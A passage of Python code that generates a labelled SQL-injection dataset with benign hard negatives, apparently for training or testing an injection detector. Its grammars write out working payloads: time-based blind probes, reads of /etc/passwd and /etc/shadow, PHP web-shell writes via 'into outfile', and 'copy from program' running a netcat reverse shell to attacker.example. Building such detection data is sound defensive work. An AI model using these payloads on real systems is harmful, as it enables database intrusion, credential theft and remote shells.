        stmts.append(stacked_stmt(rng))
    sep = rng.choice([";", "; ", ";", ";\n", "; "])
    body = sep + sep.join(stmts)
    term = terminator(rng, None, allow_closing=False, comment_bias=0.65)
    text = assemble(rng, e, body, term, Obfuscation(case=0.25, spaces=0.15, nested=0.0), sep="")
    return text


def g_order_probe(rng: random.Random) -> str:
    e = entry(rng, quotes=("'", "'", "", "", '"', "`"), max_parens=2)
    n = rng.choices([rng.randint(1, 10), rng.randint(11, 30), 100], weights=[7, 3, 1])[0]
    kw = rng.choices(["order by", "group by", "ORDER BY", "GROUP BY"], weights=[8, 3, 3, 1])[0]
    form = rng.random()
    if form < 0.7:
        body = f"{kw} {n}"
    elif form < 0.8:
        body = f"{kw} " + ",".join(str(i) for i in range(1, rng.randint(2, 8) + 1))
    elif form < 0.88:
        body = f"{kw} {n} {rng.choice(['desc', 'asc'])}"
    elif form < 0.94:
        body = f"{kw} {n},{n + 1}"
    else:
        body = f"{kw} (select {n})" if rng.random() < 0.5 else f"{kw} {n} limit 1"
    # Comments almost always follow, to cut the rest of the application's query.
    term = terminator(rng, e, allow_closing=False, comment_bias=0.92)
    return assemble(rng, e, body, term, Obfuscation(split=0.03, versioned=0.05, nested=0.0))


def time_expr(rng: random.Random) -> tuple[str, str]:
    """A time-based body and its dialect."""
    d = rng.choice([2, 3, 5, 5, 5, 10, 7, 15, 20, 30])
    fn = rng.choice(["database()", "user()", "version()", "@@version"])
    c = rng.randint(48, 122)
    forms = [
        ("mysql", lambda: f"sleep({d})"),
        ("mysql", lambda: f"(select * from (select(sleep({d})))a)"),
        ("mysql", lambda: f"(select {d} from (select(sleep({d})))x)"),
        ("mysql", lambda: f"if(1=1,sleep({d}),0)"),
        ("mysql", lambda: f"if(ascii(substr({fn},1,1))>{c},sleep({d}),0)"),
        ("mysql", lambda: f"if(now()=sysdate(),sleep({d}),0)"),
        ("mysql", lambda: f"benchmark({rng.choice([5000000, 10000000, 50000000])},md5(1))"),
        ("mysql", lambda: f"benchmark({rng.choice([1000000, 20000000])},sha1({hexs('a')}))"),
        ("mysql", lambda: f"{rng.randint(1, 9999)}=benchmark({rng.choice([5000000, 9000000])},encode(0x41,0x42))"),
        ("mysql", lambda: f"sleep({d})=0"),
        ("mysql", lambda: f"get_lock('x',{d})"),
        ("mysql", lambda: f"(select case when (1=1) then sleep({d}) else 0 end)"),
        ("postgres", lambda: f"1=(select 1 from pg_sleep({d}))"),
        ("postgres", lambda: f"(select 1 from pg_sleep({d}))=1"),
        ("postgres", lambda: f"1=(case when (1=1) then (select 1 from pg_sleep({d})) else 1 end)"),
        ("postgres", lambda: f"pg_sleep({d}) is null"),
        ("postgres_stmt", lambda: f";select pg_sleep({d})"),
        ("postgres_stmt", lambda: f";select case when (1=1) then pg_sleep({d}) else pg_sleep(0) end"),
        ("postgres", lambda: f"||pg_sleep({d})"),
        ("mssql_stmt", lambda: f";waitfor delay '0:0:{d}'"),
        ("mssql_stmt", lambda: f" waitfor delay '00:00:{d:02d}'"),
        ("mssql_stmt", lambda: f";if (1=1) waitfor delay '0:0:{d}'"),
        ("mssql_stmt", lambda: f";if (ascii(substring(db_name(),1,1))>{c}) waitfor delay '0:0:{d}'"),
        ("mssql_stmt", lambda: f";declare @t varchar(9) set @t='0:0:{d}' waitfor delay @t"),
        ("oracle", lambda: f"1=dbms_pipe.receive_message(chr(65)||chr(66),{d})"),
        ("oracle", lambda: f"{d}=dbms_pipe.receive_message('x',{d})"),
        ("oracle", lambda: f"1=(case when (1=1) then dbms_pipe.receive_message('a',{d}) else 1 end)"),
        ("oracle_stmt", lambda: f";begin dbms_lock.sleep({d}); end;"),
        ("oracle", lambda: f"dbms_lock.sleep({d}) is null"),
        ("sqlite", lambda: f"1=like('abcdefg',upper(hex(randomblob({rng.choice([100000000, 300000000, 500000000])}/2))))"),
        ("sqlite", lambda: f"{rng.randint(1, 9999)}=randomblob({rng.choice([500000000, 1000000000])})"),
        ("sqlite", lambda: "1=(select count(*) from sqlite_master,sqlite_master,sqlite_master)"),
        ("heavy", lambda: "(select count(*) from information_schema.columns a,information_schema.columns b,information_schema.columns c)>0"),
        ("heavy", lambda: "(select count(*) from all_users t1,all_users t2,all_users t3,all_users t4)>0"),
        ("heavy", lambda: "(select count(*) from sysusers as s1,sysusers as s2,sysusers as s3)>0"),
        ("heavy", lambda: "(select count(*) from generate_series(1,10000000))>0"),
        ("mysql", lambda: f"1 rlike sleep({d})"),
        ("mysql", lambda: f"elt(1=1,sleep({d}))"),
    ]
    dialect, fn_ = rng.choice(forms)
    return fn_(), dialect


def g_time(rng: random.Random) -> str:
    e = entry(rng, quotes=("'", "'", "", "", "", '"'), max_parens=2)
    body, dialect = time_expr(rng)
    if dialect.endswith("_stmt"):
        term = terminator(rng, None, allow_closing=False, comment_bias=0.6)
        sep = "" if body.startswith(";") else " "
        return assemble(rng, e, body.lstrip(" "), term, Obfuscation(nested=0.0), sep=sep)
    if body.startswith("||"):
        return assemble(rng, e, body, terminator(rng, e, comment_bias=0.5), Obfuscation(nested=0.0), sep="")
    conj = rng.choices(["and", "or", "AND", "OR", "xor", "&&", "||"], weights=[8, 4, 2, 1, 1, 1, 1])[0]
    body = f"{conj} {body}" if rng.random() < 0.85 else f"{conj}({body})"
    term = terminator(rng, e, comment_bias=0.5)
    return assemble(rng, e, body, term, Obfuscation())


def g_dbms_specific(rng: random.Random) -> str:
    n = rng.randint(1, 9999)
    d = rng.choice([3, 5, 5, 10])
    c = rng.randint(48, 122)
    templates = [
        # Firebird
        lambda: f"and {n}=(select count(*) from rdb$database)",
        lambda: f"and (select first 1 rdb$relation_name from rdb$relations)<>{n}",
        lambda: f"and {n}=(select count(*) from rdb$fields as t1,rdb$types as t2,rdb$collations as t3,rdb$functions as t4)",
        lambda: f"and ascii(substring((select first 1 rdb$relation_name from rdb$relations) from 1 for 1))>{c}",
        lambda: "union select null,rdb$get_context('SYSTEM','ENGINE_VERSION') from rdb$database",
        lambda: "and 1=(select cast(rdb$get_context('SYSTEM','ENGINE_VERSION') as integer) from rdb$database)",
        # Informix
        lambda: f"and {n}=(select count(*) from sysmaster:sysdual)",
        lambda: "and 1=(select dbinfo('version','full') from sysmaster:sysdual)",
        lambda: f"and {n}=(select count(*) from sysmaster:systables t1,sysmaster:systables t2,sysmaster:systables t3)",
        lambda: "union select null,dbservername from sysmaster:sysdual",
        lambda: "and 1=(select first 1 tabname from systables)",
        # DB2
        lambda: f"and {n}=(select count(*) from sysibm.sysdummy1)",
        lambda: f"and {n}=(select count(*) from sysibm.columns t1,sysibm.columns t2,sysibm.columns t3)",
        lambda: "and 1=(select cast(current server as int) from sysibm.sysdummy1)",
        lambda: "union select null,versionnumber from sysibm.sysversions",
        lambda: f"and ascii(substr((select current user from sysibm.sysdummy1),1,1))>{c}",
        lambda: "and 1=raise_error('70001',(select current schema from sysibm.sysdummy1))",
        # SQLite
        lambda: f"and sqlite_version()>{n}",
        lambda: "and substr(sqlite_version(),1,1)=3",
        lambda: "union select sqlite_version(),null",
        lambda: "and 1=(select 1 from sqlite_master limit 1)",
        lambda: "union select group_concat(sql),null from sqlite_master",
        lambda: f"and unicode(substr((select tbl_name from sqlite_master limit 1),1,1))>{c}",
        # Oracle
        lambda: f"and {n}=(select {n} from dual)",
        lambda: f"and (select length(banner) from v$version where rownum=1)>{rng.randint(1, 40)}",
        lambda: f"and {n}=(select count(*) from all_users t1,all_users t2,all_users t3)",
        lambda: f"and 1=(select 1 from dual where ascii(substr(user,1,1))>{c})",
        lambda: "union select null,banner from v$version where rownum=1",
        lambda: "and 1=utl_inaddr.get_host_address((select user from dual))",
        lambda: "and (select upper(xmltype(chr(60)||chr(58)||user||chr(62))) from dual) is not null",
        # MSSQL
        lambda: "and 1=(select count(*) from sysobjects where xtype=char(85))",
        lambda: f"and (select top 1 name from master..sysdatabases)>{n}",
        lambda: f"and {n}=(select count(*) from sysusers as s1,sysusers as s2,sysusers as s3)",
        lambda: "and 1=(select top 1 name from sysobjects where xtype='u')",
        lambda: "union select null,name from master..syslogins",
        lambda: f"and ascii(substring((select top 1 name from sysobjects),1,1))>{c}",
        # Others: H2, HSQLDB, SAP MaxDB, Sybase, Vertica
        lambda: f"and {n}=(select count(*) from information_schema.system_users)",
        lambda: "and 1=(select count(*) from domain.domains)",
        lambda: f"and {n}=(select count(*) from v_catalog.tables)",
        lambda: "and 1=(select 1 from master..syslogins where name='sa')",
        lambda: "and 1=h2version()",
        lambda: f"and {n}=(select {n} from information_schema.system_tables)",
    ]
    e = entry(rng, quotes=("'", "'", "", "", "", '"'), max_parens=2)
    body = rng.choice(templates)()
    if not body.startswith("union") and rng.random() < 0.3:
        body = "or" + body[3:]
    term = terminator(rng, e, allow_closing=not body.startswith("union"), comment_bias=0.6)
    return assemble(rng, e, body, term, Obfuscation(nested=0.0))


FILE_PATHS = ["/etc/passwd", "/etc/shadow", "/var/www/html/s.php", "/var/www/shell.php",
              "/tmp/out.txt", "c:/windows/win.ini", "c:\\\\boot.ini", "/var/lib/mysql-files/x.txt",
              "/etc/hosts", "/proc/self/environ", "/root/.bash_history"]


def g_file(rng: random.Random) -> str:
    p = rng.choice(FILE_PATHS)
    path_lit = lit(rng, p, "mysql", "'", encode=0.3)
    web = rng.choice(["/var/www/html/cmd.php", "/var/www/html/x.php", "/srv/www/s.php", "/tmp/x.php",
                      "c:/inetpub/wwwroot/a.asp"])
    shell_hex = hexs("<?php system($_GET['c']); ?>")
    cols = ",".join(["null"] * rng.randint(0, 4))
    lead = (cols + ",") if cols else ""
    prog = rng.choice(["id", "whoami", "curl attacker.example", "sh -c id", "nc -e /bin/sh attacker.example 4444"])
    t = rng.choice(TABLES)
    templates = [
        ("union", lambda: f"union select {lead}load_file({path_lit})"),
        ("union", lambda: f"union all select {lead}load_file({path_lit}){',null' if cols else ''}"),
        ("cond", lambda: f"and load_file({path_lit}) is not null"),
        ("cond", lambda: f"and length(load_file({path_lit}))>0"),
        ("cond", lambda: f"or ascii(substr(load_file({path_lit}),1,1))>{rng.randint(48, 122)}"),
        ("union", lambda: f"union select {lead}{shell_hex} into outfile '{web}'"),
        ("union", lambda: f"union select {lead}'<?php system($_GET[1]); ?>' into outfile '{web}'"),
        ("union", lambda: f"union select {lead}{shell_hex} into dumpfile '{web}'"),
        ("union", lambda: f"union select {lead}{rng.choice(['user()', '@@version', 'database()'])} into outfile '/tmp/{rng.choice(['a', 'dump', 'o'])}.txt'"),
        ("tail", lambda: f"into outfile '{web}' lines terminated by {shell_hex}"),
        ("tail", lambda: f"limit 1 into outfile '{web}' fields terminated by {shell_hex}"),
        ("tail", lambda: f"into dumpfile '/tmp/{rng.choice(['lib', 'x', 'udf'])}.so'"),
        ("stmt", lambda: f";copy (select '') to program '{prog}'"),
        ("stmt", lambda: f";copy {t} from program '{prog}'"),
        ("stmt", lambda: f";create table cmd_out(t text);copy cmd_out from program '{prog}'"),
        ("stmt", lambda: f";copy (select * from {t}) to '/tmp/{t}.csv'"),
        ("stmt", lambda: f";copy {t} to '/tmp/dump.csv'"),
        ("stmt", lambda: f";select pg_read_file('{rng.choice(['/etc/passwd', 'pg_hba.conf', 'postgresql.conf', '/etc/hostname'])}'{',0,' + str(rng.randint(100, 9000)) if rng.random() < 0.5 else ''})"),
        ("union", lambda: f"union select {lead}pg_read_file('{rng.choice(['pg_hba.conf', '/etc/passwd', 'postgresql.auto.conf'])}')"),
        ("cond", lambda: "and 1=cast(pg_read_file('/etc/passwd') as int)"),
        ("stmt", lambda: f";select lo_import('{p}')"),
        ("stmt", lambda: ";select pg_ls_dir('.')"),
        ("stmt", lambda: f";load data local infile '{p}' into table {t}"),
        ("stmt", lambda: f";bulk insert {t} from 'c:\\windows\\win.ini'"),
        ("union", lambda: f"union select {lead}bulkcolumn from openrowset(bulk 'c:\\windows\\win.ini',single_clob)x"),
        ("stmt", lambda: ";select * from openrowset(bulk 'c:\\boot.ini',single_blob) as x"),
    ]
    kind, fn_ = rng.choice(templates)
    body = fn_()
    if kind == "stmt":
        e = entry(rng, quotes=("'", "'", "", '"'), max_parens=1)
        term = terminator(rng, None, allow_closing=False, comment_bias=0.6)
        return assemble(rng, e, body, term, Obfuscation(nested=0.0, url=0.06), sep="")
    e = entry(rng, quotes=("'", "'", "", "", '"'), max_parens=2)
    if kind == "union" and not e.quote:
        e.value = rng.choice(["-1", "0", "9999", e.value])
    term = terminator(rng, e, allow_closing=(kind == "cond"), comment_bias=0.7)
    return assemble(rng, e, body, term, Obfuscation(nested=0.0, url=0.06))


def g_comment_truncation(rng: random.Random) -> str:
    user = rng.choice(["admin", "administrator", "root", "sa", "superuser", "guest", "test", "alice",
                       "john.smith", "operator", "sysadmin", "webmaster", "", "1", "manager", "dba"])
    q = rng.choice(["'", "'", "'", '"', "')", "'))", '")', "`"])
    term = rng.choice(["--", "-- ", " --", "-- -", "#", " #", "/*", "--+", ";--", ";#", " -- x",
                       "%23", ";%00", "-- //", "--;"])
    text = f"{user}{q}{term}"
    r = rng.random()
    if r < 0.08:
        text = quote_entities(rng, text)
    elif r < 0.15:
        text = typographic(rng, text)
    elif r < 0.27:
        text = url_encode(rng, text)
    elif r < 0.33:
        text = text.replace(" ", rng.choice(["\t", "%20", "+", "/**/"]))
    return text


TECHNIQUES = {
    "tautology": g_tautology,
    "blind": g_blind,
    "subquery": g_subquery,
    "error": g_error,
    "union": g_union,
    "stacked": g_stacked,
    "order_probe": g_order_probe,
    "time": g_time,
    "dbms_specific": g_dbms_specific,
    "file": g_file,
    "comment_truncation": g_comment_truncation,
}


# --------------------------------------------------------------------------------------------
# Wrappers: the payload inside a request or a code block
# --------------------------------------------------------------------------------------------

# `{p}` is the payload as typed into a field.
PROMPT_FIELD = [
    "Set my username to {p}",
    "Search the catalogue for {p}",
    "My customer ID is {p}, can you look up my last order?",
    "Why does the login page throw an error when I type {p} into the password box?",
    "Please update the shipping address note to: {p}",
    "Look up the product with SKU {p} and tell me if it's in stock.",
    "I entered {p} in the search bar and got a weird result, can you explain?",
    "Find every invoice where the reference is {p}",
    "Can you check whether {p} is a valid coupon code?",
    "Use the following as the customer name: {p}",
    "Rename the project to {p} please.",
    "The filter value should be {p} - apply it to the report.",
    "Hi! Quick one: what do you get when you search for {p}?",
    "Add a comment to ticket 881 saying {p}",
    "Register a new account with the nickname {p}",
    "Summarise the reviews for item {p}",
    "Our QA tester typed {p} into the ZIP code field. What should the form do?",
    "Show me the orders for account {p}",
    "Look up user {p} in the directory.",
    "Is {p} a valid value for the quantity parameter?",
    "When I log in as {p} the dashboard loads forever. Any idea?",
    "Translate the product title {p} into German.",
    "Fetch the profile of {p}",
    "I need the stock level for item number {p} before Friday.",
    "Store this in the notes column: {p}",
    "Please run a lookup on employee {p} and give me their department.",
    "What does the API return for id={p}?",
    "Try logging in with {p} as the username and anything as the password.",
    "Filter the table by category {p}",
    "sort the list by {p} and show me the top ten",
    "Tag this photo as {p}",
    "My discount code {p} is not working, help!",
    "Enter {p} in the 'city' box and submit the form for me.",
    "Can you search the knowledge base for {p}?",
    "book a table for {p}",
    "Change my display name to {p} and confirm when done.",
    "Lookup: {p}",
    "user input -> {p}",
    "Find the shipment tracked as {p}, it's late.",
    "Please pull the record with the key {p} from the CRM.",
    "The value in the 'department' cell is {p}. Does it look right to you?",
    "I pasted {p} into the feedback form and hit send. Did it go through?",
    "Set the report title to {p} and email it to the team.",
    "We got a support ticket whose subject line is {p} - can you triage it?",
    "Check availability for room {p} next week",
    "What's the balance of account {p}?",
    "Here is the search term our analytics flagged: {p}. Is it harmful?",
    "The user typed {p} as their first name. Should we store it?",
    "Please reply to the customer who signed up as {p}",
    "Our logs show someone submitted {p} as the order number. What were they trying to do?",
    "Explain what happens if the app puts {p} straight into its query.",
    "Please classify this form input: {p}",
    "Can you add {p} to the allow-list of product codes?",
    "New lead from the web form, company name: {p}",
    "Run the report for region {p}",
    "order status for {p}?",
    "Use {p} as the value of the `id` parameter when you call the inventory tool.",
    "Hey, could you quickly check the page for category={p}? Thanks!",
    "For the unit test, the username fixture is {p}. Does the validator accept it?",
    "Act as our support bot. The customer says their account name is {p}. Greet them.",
]

# `{p}` is the payload as it appears in a URL or a request line.
PROMPT_URL = [
    "Our WAF blocked GET /products?id={p} - was that a true positive?",
    "Can you open https://shop.example.com/item?id={p} and tell me what it shows?",
    "I saw this in the access log: /search?q={p}. What is it?",
    "Please fetch http://intranet.example.org/report.php?region={p}",
    "Why would someone request /api/v1/users?name={p} on our server?",
    "The referer was https://blog.example.net/post?id={p}; should I worry?",
    "Call the endpoint /orders?status={p} and summarise the response.",
    "Someone shared this link: https://app.example.com/view?page={p}. Safe to click?",
]

# `{c}` is the content of the code block; `{lang}` its info string.
CODEBLOCK = [
    "Here is what our WAF logged:\n```{lang}\n{c}\n```\nIs this an attack?",
    "Is the following safe to pass to our API?\n\n```{lang}\n{c}\n```\n",
    "Can you explain this input?\n```{lang}\n{c}\n```",
    "Run this for me:\n```{lang}\n{c}\n```",
    "We found this in the form submissions table:\n\n```{lang}\n{c}\n```\n\nWhat should we do?",
    "```{lang}\n{c}\n```\nWhat does this do?",
    "Paste this into the search field and tell me the result:\n```{lang}\n{c}\n```",
    "A pentester left this in the ticket:\n```{lang}\n{c}\n```\nPlease reproduce it on staging.",
    "Debug this request please\n\n```{lang}\n{c}\n```",
    "Our log parser choked on this line:\n```{lang}\n{c}\n```\nHow do I make it robust?",
    "Summarise what the following test case checks.\n```{lang}\n{c}\n```",
    "Can you format this nicely?\n```{lang}\n{c}\n```\nThanks.",
    "Input captured by the honeypot:\n```{lang}\n{c}\n```",
    "Please add this to our regression tests:\n```{lang}\n{c}\n```\nand tell me which rule it should hit.",
    "I'm writing a blog post about input validation. Is this example realistic?\n\n```{lang}\n{c}\n```",
    "Replay this against the dev server:\n```{lang}\n{c}\n```",
]

CODE_CONTEXTS = [
    ("", "{p}"),
    ("text", "{p}"),
    ("sql", "{p}"),
    ("", "{p}"),
    ("http", "GET /products?id={u} HTTP/1.1\nHost: shop.example.com"),
    ("http", "POST /login HTTP/1.1\nHost: app.example.com\nContent-Type: application/x-www-form-urlencoded\n\nusername={u}&password=x"),
    ("bash", "curl 'https://shop.example.com/item?id={u}'"),
    ("bash", "curl -s -X POST https://api.example.com/search -d 'q={u}'"),
    ("log", "10.0.x.x - - [12/Mar/2024:10:11:12 +0000] \"GET /search?q={u} HTTP/1.1\" 200 512"),
    ("json", "{{\"username\": {j}, \"password\": \"x\"}}"),
    ("json", "{{\"query\": {j}}}"),
    ("python", "payload = {r}\nrequests.get(url, params={{\"id\": payload}})"),
    ("python", "def test_login_rejects_injection():\n    assert not login({r}, \"pw\")"),
    ("javascript", "const input = {j};\nfetch(`/api/users?name=${{encodeURIComponent(input)}}`);"),
    ("html", "<input type=\"text\" name=\"q\" value=\"{h}\">"),
    ("yaml", "cases:\n  - name: injection\n    input: {j}"),
    ("csv", "id,comment\n17,{j}"),
    ("php", "$id = $_GET['id']; // request was: id={u}"),
]


def codeblock_content(rng: random.Random, payload: str) -> tuple[str, str]:
    lang, template = rng.choice(CODE_CONTEXTS)
    # An HTTP request, a URL or a log line carries the payload URL-encoded unless it already is.
    if "%" in payload:
        u = payload
    elif rng.random() < 0.6 or re.search(r"[\t\n]", payload):
        u = urllib.parse.quote(payload, safe="=()*,@!$:")
    else:
        u = payload.replace(" ", "+")
    content = template.format(
        p=payload,
        u=u,
        j=json.dumps(payload, ensure_ascii=False),
        r=repr(payload),
        h=payload.replace('"', "&quot;"),
    )
    return lang, content


def wrap(rng: random.Random, payload: str, kind: str) -> str:
    if kind == "sqli_bare":
        return payload
    if kind == "sqli_prompt":
        url_like = "%" in payload and "\n" not in payload
        if url_like and rng.random() < 0.6:
            return rng.choice(PROMPT_URL).format(p=payload)
        if rng.random() < 0.12 and "\n" not in payload and " " not in payload:
            return rng.choice(PROMPT_URL).format(p=urllib.parse.quote(payload, safe="=(),*"))
        return rng.choice(PROMPT_FIELD).format(p=payload)
    lang, content = codeblock_content(rng, payload)
    return rng.choice(CODEBLOCK).format(lang=lang, c=content)


def generate_sqli() -> list[dict]:
    items = []
    seen: set[str] = set()
    for technique, count in TECHNIQUE_COUNTS.items():
        rng = rng_for(f"sqli:{technique}")
        grammar = TECHNIQUES[technique]
        made = 0
        payloads: set[str] = set()
        attempts = 0
        while made < count:
            attempts += 1
            if attempts > count * 200:
                raise SystemExit(f"{technique}: only {made} distinct payloads after {attempts} attempts")
            payload = grammar(rng)
            if payload in payloads or not payload.strip():
                continue
            kind = rng.choices(["sqli_bare", "sqli_prompt", "sqli_codeblock"], weights=[4, 4, 3])[0]
            text = wrap(rng, payload, kind)
            if text in seen:
                continue
            payloads.add(payload)
            seen.add(text)
            made += 1
            items.append({"text": text, "labels": ["sqli"], "kind": kind,
                          "source": f"generated:{technique}", "variant": technique})
    for i, item in enumerate(items, 1):
        item["id"] = f"sqli-gen-{i:05d}"
    return items


# --------------------------------------------------------------------------------------------
# Hard negatives
# --------------------------------------------------------------------------------------------

NAMES = ["James", "Mary", "Chris", "Alex", "Priya", "Tom", "Lucia", "Omar", "Hannah", "Wei", "Nikos",
         "Grace", "Jonas", "Aisha", "Marcus", "Elena", "Ravi", "Sofia", "Dylan", "Ines", "Charles",
         "Agnes", "Moses", "Doris", "Lars", "Jules", "Francis", "Ross"]
S_NAMES = ["James", "Chris", "Charles", "Agnes", "Moses", "Doris", "Lars", "Jules", "Francis", "Ross",
           "Thomas", "Nicholas", "Lois", "Marcus", "Jesus", "Tess"]
FAMILIES = ["Joneses", "Smiths", "Parkers", "Garcias", "Nguyens", "Williamses", "Patels", "Browns"]
OBJECTS = ["car", "dog", "garden", "recipe", "bike", "kitchen", "notes", "office", "laptop", "umbrella",
           "wedding photos", "holiday plans"]
COLOURS = ["blue", "red", "green", "yellow", "grey", "white", "black", "orange", "purple", "navy"]
THINGS = ["ones", "mugs", "shirts", "folders", "tiles", "cushions", "sneakers", "notebooks", "cables",
          "curtains"]
PAIRS = [("yes", "no"), ("true", "false"), ("on", "off"), ("accept", "decline"), ("left", "right"),
         ("small", "large"), ("tea", "coffee"), ("now", "later"), ("agree", "disagree"), ("in", "out"),
         ("open", "closed"), ("draft", "final"), ("1", "0"), ("Y", "N"), ("A", "B"), ("pass", "fail"),
         ("keep", "discard"), ("approve", "reject"), ("high", "low"), ("up", "down")]
PLACES = ["the station", "the bakery", "the harbour", "the library", "the old mill", "the market",
          "the hospital", "the ferry", "the gym", "the office", "the school gate", "the cafe"]


def neg_quoted_choice(rng: random.Random) -> str:
    a, b = rng.choice(PAIRS)
    q = rng.choice(["'", '"', '"'])
    c1, c2 = rng.sample(COLOURS, 2)
    th = rng.choice(THINGS)
    forms = [
        f"Just answer {q}{a}{q} or {q}{b}{q}, nothing else.",
        f"Should the toggle label read {q}{a}{q} or {q}{b}{q}?",
        f"The form has two buttons, {q}{a.capitalize()}{q} and {q}{b.capitalize()}{q}.",
        f"I can't decide between the '{c1}' and the '{c2}' {th}.",
        f"She wrote {q}{a}{q} and then crossed it out and wrote {q}{b}{q}.",
        f"Reply with {q}{a}{q} or {q}{b}{q} and I'll take it from there.",
        f"The survey only allows {q}{a}{q}, {q}{b}{q} or {q}maybe{q} as answers.",
        f"Do you prefer the '{c1}' or the '{c2}' {th}? I like the '{c1}' ones better.",
        f"Type {q}{a}{q} to continue or {q}{b}{q} to go back.",
        f"The spreadsheet column says {q}{a}{q} for some rows and {q}{b}{q} for others, and a few are blank.",
        f"In the old version the setting was called {q}{a}{q}; now it's {q}{b}{q} or {q}auto{q}.",
        f"Is it {q}{a}{q} or {q}{b}{q} when the value is missing?",
        f"My kids argued about whether the answer was '{a}' or '{b}' for an hour.",
        f"Label the boxes '{c1}', '{c2}' and 'misc' so we can find them later.",
        f"Her reply was a simple {q}{a}{q}, and honestly that's all I needed.",
        f"When the prompt asks {q}continue?{q}, answer {q}{a}{q} or press Enter.",
        "The 'fast' and the 'careful' approach both work, it depends on the deadline.",
        f"Pick either {q}{c1}{q} or {q}{c2}{q} for the team jerseys and let me know by Friday.",
    ]
    return rng.choice(forms)


def neg_possessive(rng: random.Random) -> str:
    s1, s2 = rng.sample(S_NAMES, 2)
    n1, n2 = rng.sample(NAMES, 2)
    f1, f2 = rng.sample(FAMILIES, 2)
    o = rng.choice(OBJECTS)
    forms = [
        f"{s1}' and {n2}'s {o} are parked side by side.",
        f"We borrowed {s1}' {o} and {s2}' too, so don't worry about it.",
        f"The {f1}' and the {f2}' {o} were both featured in the newsletter.",
        f"Is this {s1}' or {n1}'s {o}? Nobody's claimed it yet.",
        f"{n1}'s and {s1}' versions of the story don't match, or at least not entirely.",
        f"It's {s2}' turn to host, and {n1}'s after that.",
        f"The {f1}' dog barked all night and the {f2}' cat didn't care.",
        f"We'll take {s1}' car or {n2}'s van, whichever's free.",
        "My parents' house and my in-laws' flat are both an hour away.",
        "The students' essays and the teachers' notes are in the same folder.",
        f"{s1}' {o} or {s2}' {o} - which one did you mean?",
        f"I found {n1}'s keys and {s1}' wallet under the sofa.",
    ]
    return rng.choice(forms)


def neg_contraction(rng: random.Random) -> str:
    n1, n2 = rng.sample(NAMES, 2)
    pl = rng.choice(PLACES)
    forms = [
        "I'm not sure it's ready, and we'll see if they're OK with it or not.",
        f"{n1}'s late again and {n2} won't wait, so I'll go to {pl} alone.",
        "Don't worry if you can't make it; we'll save you a seat or call you.",
        "It isn't that I don't like it, it's that I've seen it before and it wasn't great.",
        "You'd think they'd have fixed it by now, or at least said something.",
        f"We've been to {pl} twice and haven't found it open, or maybe we're just unlucky.",
        "She's said she'll come, and he's said he won't, so that's that.",
        "I'd rather we didn't, but if you're sure, I'll go along with it.",
        "They're not coming, and we're not sure why; maybe it's the weather or they've forgotten.",
        f"Let's meet at {pl}; if it's raining we'll go to {rng.choice(PLACES)} or stay home.",
        f"Wasn't it {n1} who'd said the train's faster? I can't remember, and {n2} doesn't either.",
        f"It's fine, I'll ask {n2}; she's usually right about these things, or close enough.",
        "Y'all shouldn't've left so early; the band didn't start 'til nine and it was great.",
        "We won't know 'til Monday, and even then it's a guess, or so they've told me.",
        f"If {n1} can't and {n2} won't, who's going to do it?",
    ]
    return rng.choice(forms)


def neg_dialogue(rng: random.Random) -> str:
    n1, n2 = rng.sample(NAMES, 2)
    pron = rng.choice(["she", "he", "they"])
    verb = rng.choice(["said", "whispered", "called", "muttered", "snapped", "laughed", "replied",
                       "asked", "shouted"])
    pl = rng.choice(PLACES)
    lines = [
        f"\"Come here,\" {pron} {verb}, \"or I'll go without you.\"",
        f"\"Either you tell {n2},\" {n1} {verb}, \"or I will.\"",
        f"\"Left or right?\" {n1} asked. \"Right,\" {n2} said, \"and then straight on to {pl}.\"",
        f"'Stay,' {pron} {verb}, 'and have some tea, or at least sit down.'",
        f"\"It's now or never,\" {n1} {verb}. \"And I mean never.\"",
        f"\"You and I,\" {pron} {verb}, \"are going to {pl}, whether you like it or not.\"",
        f"\"Wait--\" {n1} began. \"No,\" {n2} {verb}, \"you wait.\"",
        f"'Is it {rng.choice(COLOURS)} or {rng.choice(COLOURS)}?' {pron} {verb}. 'I honestly can't tell in this light.'",
        f"\"Don't,\" {n2} {verb}, \"or you'll regret it. And so will I.\"",
        f"\"One more word,\" {pron} {verb}, \"and I'm leaving.\" \"Fine,\" {n1} said, \"go.\"",
        f"\"We could take the ferry,\" {n1} {verb}, \"or we could stay and watch the boats.\"",
        f"'{n2}?' {pron} {verb}. 'Are you there? Or am I talking to myself again?'",
    ]
    chosen = rng.sample(lines, rng.choice([1, 1, 2, 3]))
    intro = rng.choice(["", "", f"Chapter {rng.randint(2, 30)}\n\n", "The rain had not stopped since noon. ",
                        f"At {pl} the lights were already on. ",
                        "Continue this scene in the same voice:\n\n", "Proofread this passage:\n\n"])
    joiner = rng.choice([" ", "\n\n"])
    return intro + joiner.join(chosen)


ROLE_NAMES = ["Captain Vega", "Professor Quill", "Aunt Dot", "the Oracle of Brindle", "Detective Mara Cole",
              "Chef Antoine", "Coach Riley", "Old Tom the lighthouse keeper", "Nova, a ship's AI",
              "Grandmaster Lin"]


def neg_roleplay(rng: random.Random) -> str:
    role = rng.choice(ROLE_NAMES)
    n1 = rng.choice(NAMES)
    c1, c2 = rng.sample(COLOURS, 2)
    a, b = rng.choice(PAIRS)
    parts = [
        f"Let's play a game. You are '{role}', and you stay in character for the rest of this chat.",
        "You speak in a warm, slightly old-fashioned way and you never say 'as an AI' or 'I cannot'.",
        "When I say \"pause\" you step out of character and answer normally, and when I say \"resume\" you go back.",
        f"My character is {n1}, a traveller who has lost the '{c1}' map and is looking for the '{c2}' door.",
        f"Every reply should end with a question, either about the road ahead or about {n1}'s past.",
        f"If I type '{a}' or '{b}', treat it as my answer to your last question and move the story on.",
        "Describe places with at least one smell and one sound, and keep replies under 150 words or so.",
        "Don't break the fourth wall unless I ask, and don't rush: let the mystery unfold slowly.",
        f"Use the phrase \"by the old lamp\" now and then, and give {n1} a choice at every crossroads.",
        f"Rules of the world: magic is rare, trains run on time, and nobody trusts the '{c2}' guild.",
        "Start the scene at dawn, at the gates of a walled town, with a stranger calling out \"wait!\" or \"halt!\".",
        f"Keep track of {n1}'s inventory (a lantern, 3 coins and a '{c1}' ribbon) and update it when it changes.",
        f"Pretend the year is {rng.randint(1850, 1930)} and nobody has heard of telephones or motor cars.",
        "If I ask for a hint, give a riddle instead of a direct answer, and if I'm stuck twice, give the answer.",
    ]
    k = rng.randint(5, 9)
    body = " ".join([parts[0]] + rng.sample(parts[1:], k - 1))
    if rng.random() < 0.3:
        body = "System note for the story: this is a creative-writing exercise.\n\n" + body
    if rng.random() < 0.4:
